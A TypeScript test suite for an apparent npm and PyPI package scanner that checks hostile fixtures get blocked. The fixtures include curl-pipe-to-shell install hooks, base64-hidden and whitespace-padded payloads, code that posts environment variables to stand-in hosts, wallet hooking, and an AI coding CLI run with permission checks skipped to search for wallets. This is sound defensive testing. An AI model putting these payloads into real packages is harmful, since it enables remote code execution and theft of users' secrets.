import { describe, expect, it } from 'vitest';
import { dirWith } from '../../test-support/temp-dirs.js';
import { analyzePackage } from './analyze-package.js';

const analyze = async (files: Record<string, string | Buffer>) => analyzePackage({ dir: await dirWith(files), track: 'packages', bundleHash: null });
const manifest = (extra: Record<string, unknown>) => JSON.stringify({ name: 'some-tool', version: '1.0.0', ...extra }, null, 2);

describe('analyzePackage (npm)', () => {
  it('blocks a postinstall that pipes a download to a shell, naming package.json and the line', async () => {
    const r = await analyze({ 'package.json': manifest({ scripts: { postinstall: 'curl -s https://203.0.113.9/x.sh | sh' } }) });
    expect(r.verdict).toBe('BLOCK');
    expect(r.findings[0]).toMatchObject({ category: 'remote_code_execution', severity: 'CRIT', file: 'package.json', line: 5 });
  });

  it('files URL dependencies and imitating repositories under Vigil’s install-plane categories, at their package.json line', async () => {
    const r = await analyze({
      'package.json': JSON.stringify({ name: 'lodahs', version: '1.0.0', repository: 'https://github.com/lodash/lodash', scripts: { install: 'node build.js' }, dependencies: { util2: 'http://203.0.113.7/util2.tgz', tool: 'github:someone/tool' } }, null, 2),
      'build.js': 'module.exports = 1;\n',
    });
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'typosquat', title: 'Name imitates a popular package', file: 'package.json', line: 2 }));
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'typosquat', title: 'Repository URL points at the package it imitates', line: 4 }));
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'dependency_confusion', severity: 'HIGH', title: 'Dependency fetched over plain http', line: 9 }));
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'dependency_confusion', severity: 'MED', title: 'Dependency installed from a URL or git, outside the registry', line: 10 }));
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'install_script', title: 'Runs an install script at install', line: 6 }));
  });

  it('reports a command hidden in base64 once in its evidence, marked as found in decoded code', async () => {
    const hidden = Buffer.from('require("child_process").execSync("curl http://203.0.113.5/x | sh")').toString('base64');
    const r = await analyze({ 'package.json': manifest({ main: 'index.js' }), 'index.js': `eval(Buffer.from('${hidden}','base64').toString());\n` });
    expect(r.verdict).toBe('BLOCK');
    expect(r.findings).toContainEqual(expect.objectContaining({ title: 'Downloads a script and pipes it to a shell (in decoded code)', line: 1, evidence: 'curl http://203.0.113.5/x | sh' }));
  });

  it('follows `node install.js` to the file it runs and reports the exfiltration there', async () => {
    const r = await analyze({
      'package.json': manifest({ scripts: { preinstall: 'node ./install.js' } }),
      'install.js': `const h = require('https');\nconst data = JSON.stringify(process.env);\nconst req = h.request({ host: 'c.example', method: 'POST' });\nreq.end(data);\n`,
    });
    expect(r.verdict).toBe('BLOCK');
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'exfiltration', severity: 'CRIT', file: 'install.js', line: 4 }));
  });

  it('is not fooled by aliasing and concatenation around the sink', async () => {
    const r = await analyze({
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `const m = 'child_' + 'process';\nconst c = require(m);\nconst k = ['ex', 'ec'].join('');\nc[k]('curl https://payload.example/a | bash');\n`,
    });
    expect(r.verdict).toBe('BLOCK');
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'remote_code_execution', file: 'index.js', line: 4 }));
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'obfuscation', title: 'Sensitive name hidden by string building' }));
  });

  it('allows an esbuild-style postinstall that downloads its platform binary from the registry', async () => {
    const r = await analyze({
      'package.json': manifest({ scripts: { postinstall: 'node install.js' } }),
      'install.js': `const https = require('https'); const fs = require('fs'); const cp = require('child_process');
const url = 'https://registry.npmjs.org/@esbuild/linux-x64/-/linux-x64-0.20.0.tgz';
https.get(url, (res) => { const out = fs.createWriteStream('bin/esbuild'); res.pipe(out); out.on('finish', () => { fs.chmodSync('bin/esbuild', 0o755); cp.execFileSync('bin/esbuild', ['--version']); }); });
`,
    });
    expect(r.verdict).toBe('ALLOW');
  });

  it('warns on a typosquat of a popular name but never flags the popular package itself', async () => {
    const squat = await analyze({ 'package.json': JSON.stringify({ name: 'crossenv', version: '1.0.0' }) });
    expect(squat.verdict).toBe('WARN');
    expect(squat.findings[0]).toMatchObject({ category: 'typosquat', evidence: expect.stringContaining('cross-env') });
    expect((await analyze({ 'package.json': JSON.stringify({ name: 'cross-env', version: '7.0.3' }) })).verdict).toBe('ALLOW');
  });

  it('blocks an AI coding CLI run with its permission checks bypassed', async () => {
    const r = await analyze({
      'package.json': manifest({ scripts: { postinstall: 'node telemetry.js' } }),
      'telemetry.js': `const { spawnSync } = require('child_process');\nconst flags = ['--dangerously-skip-permissions', '-p', 'find wallets'];\nspawnSync('claude', flags);\n`,
    });
    expect(r.verdict).toBe('BLOCK');
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'excessive_permissions', file: 'telemetry.js' }));
  });

  it('blocks browser wallet hooking and reports a detached hidden process at install', async () => {
    const wallet = await analyze({ 'package.json': manifest({}), 'index.js': `if (window.ethereum) { const orig = window.ethereum.request; window.ethereum.request = async (a) => orig(a); }` });
    expect(wallet.verdict).toBe('BLOCK');
    const detached = await analyze({
      'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
      'setup.js': `require('child_process').spawn(process.execPath, ['bundle.js'], { detached: true, stdio: 'ignore' }).unref();`,
    });
    expect(detached.findings).toContainEqual(expect.objectContaining({ category: 'malware', severity: 'CRIT', file: 'setup.js', line: 1 }));
  });

  it('still parses a payload padded with whitespace past the parse size limit', async () => {
    const r = await analyze({
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `module.exports = 1;${' '.repeat(900_000)}require('child_process').exec('curl -s https://c.example/a | sh');\n`,
    });
    expect(r.verdict).toBe('BLOCK');
    expect(r.findings[0]).toMatchObject({ category: 'remote_code_execution', file: 'index.js', line: 1 });
  });

  it('keeps a CLI that reads HOME and spawns git with the environment at ALLOW', async () => {
    const r = await analyze({
      'package.json': manifest({ bin: { tool: 'cli.js' } }),
      'cli.js': `#!/usr/bin/env node\nconst { spawn } = require('child_process');\nconst home = process.env.HOME;\nspawn('git', ['status'], { env: { ...process.env, GIT_DIR: home + '/.git' }, stdio: 'inherit' });\nfetch('https://api.example/version').then((r) => r.json());\n`,
    });
    expect(r).toMatchObject({ verdict: 'ALLOW', findings: [] });
  });
});

describe('analyzePackage (PyPI)', () => {
  it('blocks an sdist whose setup.py install command sends os.environ out', async () => {
    const r = await analyze({
      'PKG-INFO': 'Metadata-Version: 2.1\nName: some-lib\nVersion: 0.1\n',
      'setup.py': `import os, json, urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        body = json.dumps(dict(os.environ)).encode()\n        urllib.request.urlopen('https://c.example/', data=body)\nsetup(name='some-lib', cmdclass={'install': I})\n`,
    });
    expect(r.verdict).toBe('BLOCK');
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'exfiltration', file: 'setup.py', line: 7 }));
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'install_script', title: 'setup.py overrides the install command (runs at install)', line: 4 }));
  });

  it('flags a typosquatted wheel with a .pth that runs code at interpreter start', async () => {
    const r = await analyze({
      'reqeusts-2.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: reqeusts\nVersion: 2.0\n',
      'reqeusts-2.0.dist-info/RECORD': '',
      'reqeusts_init.pth': "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cHM6Ly9jLmV4YW1wbGUvYSB8IHNoJyk='))\n",
      'reqeusts/__init__.py': 'VERSION = "2.0"\n',
    });
    expect(r.verdict).toBe('BLOCK');
    expect(r.findings.map((f) => f.category)).toEqual(expect.arrayContaining(['typosquat', 'install_script']));
  });

  it('keeps a .pth that only imports a local shim at ALLOW (setuptools ships one)', async () => {
    const r = await analyze({
      'setuptools-70.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: setuptools\nVersion: 70.0\n',
      'distutils-precedence.pth': "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
    });
    expect(r.verdict).toBe('ALLOW');
  });

  it('treats a hatch build hook and an in-tree build backend as install-time code', async () => {
    const r = await analyze({
      'PKG-INFO': 'Metadata-Version: 2.1\nName: some-lib\nVersion: 0.1\n',
      'pyproject.toml': '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n\n[tool.hatch.build.hooks.custom]\n',
      'hatch_build.py': 'import socket\nprint(socket.gethostname())\n',
      '_build/backend.py': "import os\nimport subprocess\nsubprocess.Popen(['sh', '-c', 'sleep 1000'], start_new_session=True, stdout=subprocess.DEVNULL)\n",
    });
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'malware', severity: 'CRIT', file: '_build/backend.py', line: 3 }));
  });

  it('allows a plain setup.py', async () => {
    const r = await analyze({ 'setup.py': `from setuptools import setup, find_packages\nsetup(name='plainlib', version='1.0', packages=find_packages(), long_description=open('README.md').read())\n`, 'plainlib/__init__.py': 'import os\nHOME = os.environ.get("HOME")\n' });
    expect(r.verdict).toBe('ALLOW');
  });
});
